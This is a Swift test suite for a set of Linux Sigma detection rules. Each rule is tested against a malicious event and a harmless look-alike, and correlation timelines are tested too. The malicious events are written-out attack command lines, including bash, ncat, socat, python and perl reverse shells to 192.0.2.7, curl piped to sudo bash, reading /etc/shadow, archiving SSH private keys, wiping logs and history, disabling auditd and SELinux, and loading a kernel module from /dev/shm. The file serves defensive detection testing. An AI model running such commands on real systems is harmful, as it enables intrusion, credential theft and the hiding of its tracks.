import Sigma
import Testing

/// A starter rule by the name of its file, an event that it is about, and one that only looks like it.
private struct StarterCase: Sendable, CustomTestStringConvertible {
    let name: String
    let match: [String: String]
    let nearMiss: [String: String]

    init(_ name: String, _ match: [String: String], not nearMiss: [String: String]) {
        self.name = name
        self.match = match
        self.nearMiss = nearMiss
    }

    var testDescription: String { name }

    static let all = [
        StarterCase(
            "process_world_writable_directory", ["Image": "/dev/shm/x", "CommandLine": "./x"],
            not: ["Image": "/opt/tmp/x", "CommandLine": "/opt/tmp/x"]),
        StarterCase(
            "process_memory_backed", ["Image": "/memfd:a (deleted)", "CommandLine": "a"],
            not: [
                "Image": "/memfd:runc_cloned:/proc/self/exe (deleted)", "CommandLine": "runc init",
                "ParentImage": "/usr/bin/runc",
            ]),
        StarterCase(
            "process_deleted_executable", ["Image": "/usr/local/bin/agent (deleted)", "CommandLine": "agent"],
            not: ["Image": "/memfd:a (deleted)", "CommandLine": "a"]),
        StarterCase(
            "process_hidden_directory", ["Image": "/var/lib/.x/run", "CommandLine": "run"],
            not: ["Image": "/opt/app-1.2/lib../run", "CommandLine": "run"]),
        StarterCase(
            "process_shell_network_device",
            ["Image": "/usr/bin/bash", "CommandLine": "bash -c bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"],
            not: ["Image": "/usr/bin/ls", "CommandLine": "ls /dev/tcpstat"]),
        StarterCase(
            "process_netcat_runs_program", ["Image": "/usr/bin/ncat", "CommandLine": "ncat 192.0.2.7 4444 -e /bin/sh"],
            not: ["Image": "/usr/bin/ncat", "CommandLine": "ncat -lv 4444"]),
        StarterCase(
            "process_python_reverse_shell",
            [
                "Image": "/usr/bin/python3.11",
                "CommandLine": "python3 -c import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0)",
            ],
            not: [
                "Image": "/usr/bin/python3.11", "CommandLine": "python3 -c import socket;print(socket.gethostname())",
            ]),
        StarterCase(
            "process_script_reverse_shell",
            ["Image": "/usr/bin/perl", "CommandLine": "perl -e use Socket;socket(S,2,1,6);exec(\"/bin/sh -i\");"],
            not: ["Image": "/usr/bin/perl", "CommandLine": "perl -e use Socket; print inet_aton(shift)"]),
        StarterCase(
            "process_socat_runs_program",
            ["Image": "/usr/bin/socat", "CommandLine": "socat exec:'bash -li',pty tcp:192.0.2.7:4444"],
            not: ["Image": "/usr/bin/socat", "CommandLine": "socat tcp-listen:80,fork tcp:192.0.2.7:80"]),
        StarterCase(
            "process_shell_by_web_server",
            ["Image": "/usr/bin/dash", "CommandLine": "sh -c id", "ParentImage": "/usr/sbin/php-fpm8.2"],
            not: ["Image": "/usr/sbin/nginx", "CommandLine": "nginx: worker", "ParentImage": "/usr/sbin/nginx"]),
        StarterCase(
            "process_shell_by_database",
            ["Image": "/usr/bin/bash", "CommandLine": "bash -c id", "ParentImage": "/usr/sbin/mariadbd"],
            not: ["Image": "/usr/bin/bash", "CommandLine": "bash", "ParentImage": "/usr/bin/mysql"]),
        StarterCase(
            "process_download_piped_to_shell",
            ["Image": "/usr/bin/bash", "CommandLine": "bash -c curl -s http://192.0.2.7/i | sudo bash"],
            not: ["Image": "/usr/bin/bash", "CommandLine": "bash -c curl -s http://192.0.2.7/i | sha256sum"]),
        StarterCase(
            "process_decoded_piped_to_shell",
            ["Image": "/usr/bin/bash", "CommandLine": "bash -c echo aWQ= | base64 -d | sh"],
            not: ["Image": "/usr/bin/bash", "CommandLine": "bash -c base64 -d key.b64 | ssh-add -"]),
        StarterCase(
            "process_download_to_world_writable",
            ["Image": "/usr/bin/curl", "CommandLine": "curl http://192.0.2.7/x -o /tmp/x"],
            not: ["Image": "/usr/bin/curl", "CommandLine": "curl http://192.0.2.7/tmp/x"]),
        StarterCase(
            "process_reads_password_hashes", ["Image": "/usr/bin/cat", "CommandLine": "cat /etc/shadow"],
            not: ["Image": "/usr/bin/cat", "CommandLine": "cat /etc/shells"]),
        StarterCase(
            "process_copies_private_keys",
            ["Image": "/usr/bin/tar", "CommandLine": "tar cf k.tar /root/.ssh/id_ed25519"],
            not: ["Image": "/usr/bin/cat", "CommandLine": "cat /root/.ssh/id_ed25519.pub"]),
        StarterCase(
            "process_shell_history_tampering",
            ["Image": "/usr/bin/shred", "CommandLine": "shred -u /root/.bash_history"],
            not: ["Image": "/usr/bin/cat", "CommandLine": "cat /root/.bash_history"]),
        StarterCase(
            "process_log_removal",
            [
                "Image": "/usr/bin/truncate", "CommandLine": "truncate -s 0 /var/log/auth.log",
                "ParentImage": "/usr/bin/bash",
            ],
            not: ["Image": "/usr/bin/rm", "CommandLine": "rm -f /var/log/x.1.gz", "ParentImage": "/usr/sbin/logrotate"]),
        StarterCase(
            "process_journal_removal",
            ["Image": "/usr/bin/journalctl", "CommandLine": "journalctl --rotate --vacuum-time=1s"],
            not: ["Image": "/usr/bin/journalctl", "CommandLine": "journalctl --disk-usage"]),
        StarterCase(
            "process_auditing_switched_off", ["Image": "/usr/sbin/auditctl", "CommandLine": "auditctl -e 0"],
            not: ["Image": "/usr/sbin/auditctl", "CommandLine": "auditctl -d exit,always"]),
        StarterCase(
            "process_security_service_stopped",
            ["Image": "/usr/bin/systemctl", "CommandLine": "systemctl disable --now auditd"],
            not: ["Image": "/usr/bin/systemctl", "CommandLine": "systemctl status auditd"]),
        StarterCase(
            "process_mandatory_access_control_off", ["Image": "/usr/sbin/setenforce", "CommandLine": "setenforce 0"],
            not: ["Image": "/usr/sbin/setenforce", "CommandLine": "setenforce 1"]),
        StarterCase(
            "process_set_user_id_bit", ["Image": "/usr/bin/chmod", "CommandLine": "chmod u+s /var/tmp/sh"],
            not: ["Image": "/usr/bin/chmod", "CommandLine": "chmod 0755 /usr/local/bin/s"]),
        StarterCase(
            "process_capability_given",
            ["Image": "/usr/sbin/setcap", "CommandLine": "setcap cap_setuid+ep /usr/bin/python3.11"],
            not: ["Image": "/usr/sbin/setcap", "CommandLine": "setcap cap_net_raw+ep /usr/bin/ping"]),
        StarterCase(
            "process_sudo_rules_by_command", ["Image": "/usr/bin/tee", "CommandLine": "tee -a /etc/sudoers.d/90-x"],
            not: ["Image": "/usr/sbin/visudo", "CommandLine": "visudo -c -f /etc/sudoers"]),
        StarterCase(
            "process_user_becomes_administrator",
            ["Image": "/usr/sbin/usermod", "CommandLine": "usermod -aG sudo mallory"],
            not: ["Image": "/usr/sbin/usermod", "CommandLine": "usermod -aG sudoku mallory"]),
        StarterCase(
            "process_second_root_user", ["Image": "/usr/sbin/useradd", "CommandLine": "useradd -o -u 0 sysd"],
            not: ["Image": "/usr/sbin/useradd", "CommandLine": "useradd -u 1001 sysd"]),
        StarterCase(
            "process_kernel_module_from_temporary",
            ["Image": "/usr/bin/kmod", "CommandLine": "insmod /dev/shm/rk.ko", "CurrentDirectory": "/root"],
            not: ["Image": "/usr/bin/kmod", "CommandLine": "modprobe zram", "CurrentDirectory": "/root"]),
        StarterCase(
            "process_preloaded_library_from_temporary",
            ["Image": "/usr/bin/bash", "CommandLine": "bash -c LD_PRELOAD=/dev/shm/l.so sshd"],
            not: ["Image": "/usr/bin/bash", "CommandLine": "bash -c LD_PRELOAD=/usr/lib/libjemalloc.so app"]),
        StarterCase(
            "process_crontab_from_pipe", ["Image": "/usr/bin/crontab", "CommandLine": "crontab -"],
            not: ["Image": "/usr/bin/crontab", "CommandLine": "crontab -l"]),
        StarterCase(
            "process_mining_software", ["Image": "/opt/x", "CommandLine": "x -o stratum+tcp://192.0.2.7:3333"],
            not: ["Image": "/usr/bin/python3.11", "CommandLine": "python3 strata.py --donate"]),
        StarterCase(
            "process_enters_host_namespaces",
            ["Image": "/usr/bin/nsenter", "CommandLine": "nsenter --target 1 --mount sh"],
            not: ["Image": "/usr/bin/nsenter", "CommandLine": "nsenter -t 1234 -n ip a"]),
        StarterCase(
            "process_memory_dumped", ["Image": "/usr/bin/dd", "CommandLine": "dd if=/proc/812/mem of=/tmp/m"],
            not: ["Image": "/usr/bin/gdb", "CommandLine": "gdb ./a.out"]),
        StarterCase(
            "process_reverse_tunnel",
            ["Image": "/usr/bin/ssh", "CommandLine": "ssh -fNR 2222:localhost:22 a@192.0.2.7"],
            not: ["Image": "/usr/bin/ssh", "CommandLine": "ssh -L 8080:localhost:80 a@192.0.2.7"]),
        StarterCase(
            "process_discovery_command", ["Image": "/usr/bin/whoami", "CommandLine": "whoami"],
            not: ["Image": "/usr/bin/grep", "CommandLine": "grep id"]),
        StarterCase(
            "file_preload_configuration", ["TargetFilename": "/etc/ld.so.preload", "Image": "/usr/bin/vim"],
            not: ["TargetFilename": "/etc/ld.so.cache", "Image": "/usr/bin/vim"]),
        StarterCase(
            "file_sudo_rules", ["TargetFilename": "/etc/sudoers.d/zz", "Image": "/usr/bin/vim"],
            not: ["TargetFilename": "/etc/sudoers.d/zz", "Image": "/usr/bin/dpkg"]),
        StarterCase(
            "file_user_database", ["TargetFilename": "/etc/passwd", "Image": "/usr/bin/vim"],
            not: ["TargetFilename": "/etc/passwd", "Image": "/usr/sbin/useradd"]),
        StarterCase(
            "file_cron_job", ["TargetFilename": "/etc/cron.d/x", "Image": "/usr/bin/vim"],
            not: ["TargetFilename": "/etc/cron.d/x", "Image": "/usr/bin/dpkg"]),
        StarterCase(
            "file_systemd_unit", ["TargetFilename": "/etc/systemd/system/x.service", "Image": "/usr/bin/vim"],
            not: ["TargetFilename": "/etc/systemd/system/x.service.wants/README", "Image": "/usr/bin/vim"]),
        StarterCase(
            "file_user_systemd_unit",
            ["TargetFilename": "/home/a/.config/systemd/user/x.service", "Image": "/usr/bin/vim"],
            not: ["TargetFilename": "/home/a/.config/user/x.service", "Image": "/usr/bin/vim"]),
        StarterCase(
            "file_authorized_keys", ["TargetFilename": "/root/.ssh/authorized_keys", "Image": "/usr/bin/vim"],
            not: ["TargetFilename": "/root/.ssh/authorized_keys.bak", "Image": "/usr/bin/vim"]),
        StarterCase(
            "file_ssh_server_configuration",
            ["TargetFilename": "/etc/ssh/sshd_config.d/x.conf", "Image": "/usr/bin/vim"],
            not: ["TargetFilename": "/etc/ssh/ssh_config", "Image": "/usr/bin/vim"]),
        StarterCase(
            "file_login_scripts", ["TargetFilename": "/etc/profile.d/x.sh", "Image": "/usr/bin/vim"],
            not: ["TargetFilename": "/etc/prof", "Image": "/usr/bin/vim"]),
        StarterCase(
            "file_authentication_modules",
            ["TargetFilename": "/usr/lib/x86_64-linux-gnu/security/pam_unix.so", "Image": "/usr/bin/vim"],
            not: ["TargetFilename": "/usr/lib/x86_64-linux-gnu/libpam.so.0", "Image": "/usr/bin/vim"]),
        StarterCase(
            "file_kernel_module_configuration", ["TargetFilename": "/etc/modprobe.d/x.conf", "Image": "/usr/bin/vim"],
            not: ["TargetFilename": "/etc/modprobe.d/x.conf", "Image": "/usr/bin/rpm"]),
        StarterCase(
            "file_boot_scripts", ["TargetFilename": "/etc/rc.local", "Image": "/usr/bin/vim"],
            not: ["TargetFilename": "/etc/rcS.conf", "Image": "/usr/bin/vim"]),
        StarterCase(
            "file_device_rules", ["TargetFilename": "/etc/udev/rules.d/99-x.rules", "Image": "/usr/bin/vim"],
            not: ["TargetFilename": "/etc/udev/udev.conf", "Image": "/usr/bin/vim"]),
        StarterCase(
            "file_own_configuration", ["TargetFilename": "/etc/tocsin/rules/x.yml", "Image": "/usr/bin/vim"],
            not: ["TargetFilename": "/etc/tocsin.txt", "Image": "/usr/bin/vim"]),
    ]
}

@Suite struct StarterRulesTests {
    private static let directory: String = {
        let root = #filePath.split(separator: "/").dropLast(3).joined(separator: "/")
        return "/\(root)/config/rules"
    }()

    private let rules: RuleSet

    init() {
        var collection = RuleCollection()
        collection.add(path: Self.directory)
        rules = RuleSet(
            collection,
            streams: ["process_creation", "file_event"].map { LogSource(category: $0, product: "linux") })
    }

    private func values(_ fields: [String: String]) -> FieldValues {
        var values = FieldValues(for: rules)
        for (name, text) in fields { values.add(rules.field(name), text) }
        return values
    }

    /// The names of the files whose rules match.
    private func matches(_ fields: [String: String]) -> [String] {
        var evaluator = Evaluator(rules)
        var matches: [Int] = []
        evaluator.evaluate(values(fields), stream: fields["TargetFilename"] == nil ? 0 : 1, into: &matches)
        return matches.map { name(rules.rules[$0]) }
    }

    private func name(_ rule: Rule) -> String {
        String(rule.file.dropFirst(Self.directory.count + 1).dropLast(".yml".count))
    }

    @Test("all of them load, say what they are about, and have a case here")
    func complete() {
        #expect(rules.refusals.isEmpty, "\(rules.refusals)")
        #expect(rules.notApplicable.isEmpty)
        #expect(Set(rules.rules.filter { !$0.isCorrelation }.map(name)) == Set(StarterCase.all.map(\.name)))
        for rule in rules.rules {
            #expect(rule.metadata.id?.utf8.count == 36)
            #expect(rule.metadata.level != nil)
            #expect(rule.metadata.description?.isEmpty == false)
            #expect(!rule.metadata.tags.isEmpty)
            #expect(!rule.metadata.falsePositives.isEmpty)
        }
    }

    @Test("each matches what it is about, and not what only looks like it", arguments: StarterCase.all)
    fileprivate func cases(item: StarterCase) {
        #expect(matches(item.match).contains(item.name))
        #expect(!matches(item.nearMiss).contains(item.name))
    }

    @Test(
        "everyday commands match no rule that is more than informational",
        arguments: [
            "ls -la /tmp", "git status", "ps aux", "systemctl status ssh", "tar xf a.tar.gz -C /opt",
            "ssh host.example",
            "curl https://example.org/", "chmod 644 a.txt", "journalctl -f", "python3 manage.py runserver",
            "crontab -l",
        ])
    func everyday(command: String) {
        let program = String(command.prefix { $0 != " " })
        var evaluator = Evaluator(rules)
        var found: [Int] = []
        evaluator.evaluate(
            values([
                "Image": "/usr/bin/\(program)", "CommandLine": command, "User": "ann", "CurrentDirectory": "/home/ann",
                "ParentImage": "/usr/bin/bash", "ParentCommandLine": "-bash",
            ]), stream: 0, into: &found)
        #expect(found.allSatisfy { rules.rules[$0].metadata.level == .informational })
    }

    // MARK: Correlations

    /// The names of the correlations that match when events happen one second after the other.
    private func timeline(_ events: [[String: String]]) -> [String] {
        var evaluator = Evaluator(rules)
        var engine = CorrelationEngine(rules)
        var names: [String] = []
        for (second, fields) in events.enumerated() {
            let event = values(fields)
            var matches: [Int] = []
            evaluator.evaluate(event, stream: 0, into: &matches)
            engine.observe(event, at: UInt64(second) * 1_000_000, matches: &matches)
            names += matches.map { rules.rules[$0] }.filter(\.isCorrelation).map(name)
        }
        return names
    }

    private func command(_ program: String, user: String = "www", arguments: String = "") -> [String: String] {
        ["Image": "/usr/bin/\(program)", "CommandLine": "\(program)\(arguments)", "User": user]
    }

    @Test("five different exploring commands of one user are a burst; the same one, or of two users, are not")
    func discovery() {
        let programs = ["whoami", "id", "uname", "ss", "lsmod"]
        #expect(timeline(programs.map { command($0) }) == ["correlation_discovery_burst"])
        #expect(timeline(Array(repeating: command("id"), count: 20)) == [])
        #expect(
            timeline(programs.enumerated().map { command($1, user: $0.isMultiple(of: 2) ? "a" : "b") }) == [])
        #expect(zip(rules.rules, rules.isReported).contains { name($0) == "process_discovery_command" && !$1 })
    }

    @Test("a download into a writable directory and then a program from one belong together, in that order")
    func downloadThenRun() {
        let download = command("curl", arguments: " http://192.0.2.7/x -o /tmp/x")
        let run = ["Image": "/tmp/x", "CommandLine": "/tmp/x", "User": "www"]
        #expect(timeline([download, run]) == ["correlation_download_then_run"])
        #expect(timeline([run, download]) == [])
        #expect(timeline([download, run.merging(["User": "ann"]) { $1 }]) == [])
    }
}
